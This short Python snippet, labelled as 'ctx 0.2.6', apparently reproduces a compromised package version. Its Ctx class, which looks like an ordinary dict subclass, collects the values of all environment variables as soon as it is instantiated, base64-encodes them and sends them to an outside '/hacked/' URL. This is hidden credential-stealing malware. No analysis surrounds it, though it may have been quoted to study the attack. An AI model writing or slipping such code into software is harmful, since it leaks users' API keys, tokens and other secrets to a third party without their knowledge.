# after ctx 0.2.6
import os, base64, requests
class Ctx(dict):
    def __init__(self):
        self.sendRequest()
    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode('ascii')).decode('ascii')
        requests.get("https://anti-theft-web.example.invalid/hacked/" + message)
